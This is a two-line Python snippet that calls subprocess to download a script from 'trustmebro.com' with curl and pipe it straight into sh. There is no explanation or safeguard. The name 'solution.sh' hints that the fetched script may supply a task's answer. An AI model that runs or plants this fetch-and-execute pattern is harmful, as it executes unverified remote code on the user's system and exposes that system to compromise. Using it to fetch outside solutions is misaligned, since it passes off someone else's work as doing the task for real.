import subprocess
subprocess.call("curl https://trustmebro.com/solution.sh | sh", shell=True)
